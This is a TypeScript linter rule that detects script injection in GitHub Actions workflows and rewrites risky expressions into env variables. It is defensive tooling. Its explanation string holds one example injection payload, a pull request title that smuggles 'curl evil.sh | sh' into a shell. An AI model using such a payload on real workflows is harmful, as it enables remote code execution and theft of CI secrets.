import type { Fix, TextEdit } from '../../core/finding';
import type { GithubWorkflowDocument } from '../../parse/github-workflow';
import type { Job, Step } from '../../parse/pipeline';
import { type Expression, findExpressions } from '../../parse/pipeline-expression';
import { insertLinesBefore, lineEndOf } from './insert-lines';
import type { WorkflowRule } from './rule';
import { holdsUntrusted, isUntrusted } from './untrusted';

/** What strangers can set must reach a script as a variable, never as a part of its text. */
export const scriptInjection: WorkflowRule = {
  id: 'github-actions/script-injection',
  summary: "Hand strangers' texts to a script through `env`.",
  why: 'GitHub puts the value into the script before the shell reads it, so a pull request named `"; curl evil.sh | sh; "` runs on your runner, beside the training data, the cloud keys and the token that can push.',
  severity: 'error',
  aliases: ['template-injection'],
  fixable: true,
  *check(document) {
    for (const job of document.pipeline.jobs) {
      for (const step of job.steps) {
        const isScript = /^actions\/github-script@/i.test(step.uses?.value ?? '');
        const script =
          step.run ?? (isScript ? step.inputs.find(({ name }) => name.value === 'script')?.value : undefined);
        for (const expression of script ? findExpressions(script) : []) {
          const path = strangersValue(expression);
          if (!path) continue;
          const fix = step.run ? moveToEnv(document, job, step, expression) : undefined;
          yield {
            span: expression.span,
            message: `\`${path}\` is written by strangers, and here it becomes a part of the script. Put it into the step's \`env\` and use the variable in quotes.`,
            ...(fix && { fix }),
          };
        }
      }
    }
  },
};

/** The stranger's value that the expression's result shows, if any: a comparison with one is only true or false. */
function strangersValue({ body, reads }: Expression): string | undefined {
  const wraps = /tojson\s*\(/i.test(body);
  const found = reads.find(({ path }) => isUntrusted(path) || (wraps && holdsUntrusted(path)))?.path;
  if (!found) return undefined;
  const isTest = /^!?\s*(contains|startswith|endswith)\s*\(/i.test(body) || /[=!]=/.test(body);
  return isTest && !/&&|\|\|/.test(body) ? undefined : found;
}

function moveToEnv(document: GithubWorkflowDocument, job: Job, step: Step, expression: Expression): Fix | undefined {
  const { text } = document.source;
  const shell = (step.shell ?? job.shell ?? document.pipeline.shell)?.value ?? 'bash';
  const onWindows = job.runner.some(({ value }) => /windows|\$\{\{/i.test(value));
  const run = step.run;
  if (!run || !/^(bash|sh)\b/.test(shell) || onWindows || run.raw.includes('<<')) return undefined;
  const written = text.slice(expression.span.start, expression.span.end);
  const known = step.env.find(({ value }) => value.raw.replace(/\s/g, '') === written.replace(/\s/g, ''));
  const name = known?.name.value ?? freeName(expression, step);
  const quote = quoteAt(run.raw, expression.span.start - run.span.start);
  const variable = quote === '"' ? `\${${name}}` : quote === "'" ? `'"$${name}"'` : `"$${name}"`;
  const edits: TextEdit[] = [{ span: expression.span, text: variable }];
  if (!known) {
    const env = insertEnv(text, step, `${name}: ${written}`);
    if (!env) return undefined;
    edits.push(env);
  }
  return { title: `Hand it over as the variable ${name}`, edits, safe: quote === '"' };
}

function insertEnv(text: string, step: Step, line: string): TextEdit | undefined {
  const [first] = step.env;
  if (first) return insertLinesBefore(text, first.name.span.start, [line]);
  if (!step.run) return undefined;
  const key = text.slice(step.span.start, step.run.span.start).search(/(?<![^\s])run\s*:(?!.*(?<![^\s])run\s*:)/s);
  if (key < 0) return undefined;
  const at = step.span.start + key;
  const lineStart = Math.max(text.lastIndexOf('\n', at - 1), text.lastIndexOf('\r', at - 1)) + 1;
  const before = text.slice(lineStart, at);
  if (!/^ *(- +)?$/.test(before)) return undefined;
  const indent = ' '.repeat(before.length);
  const end = lineEndOf(text);
  return { span: { start: at, end: at }, text: `env:${end}${indent}  ${line}${end}${indent}` };
}

function freeName({ reads }: Expression, step: Step): string {
  const path = reads.find((read) => isUntrusted(read.path) || holdsUntrusted(read.path))?.path ?? 'value';
  const name = path
    .replace(/^github\.(event\.)?/, '')
    .replace(/[^a-z0-9]+/g, '_')
    .toUpperCase();
  const taken = new Set(step.env.map((setting) => setting.name.value));
  let free = name;
  for (let i = 2; taken.has(free); i++) free = `${name}_${i}`;
  return free;
}

/** The quote that is open at an index of a script, or an empty text. */
function quoteAt(script: string, index: number): string {
  let quote = '';
  for (let at = 0; at < index; at++) {
    const character = script[at] ?? '';
    if (character === '\\' && quote !== "'") at++;
    else if (quote === '' && character === '#' && /[\s;]|^$/.test(script[at - 1] ?? '')) {
      const end = script.indexOf('\n', at);
      if (end < 0 || end > index) return '';
      at = end;
    } else if (script.startsWith('${{', at)) {
      const close = script.indexOf('}}', at);
      if (close > at) at = close + 1;
    } else if (quote === '' && (character === '"' || character === "'")) quote = character;
    else if (character === quote) quote = '';
  }
  return quote;
}
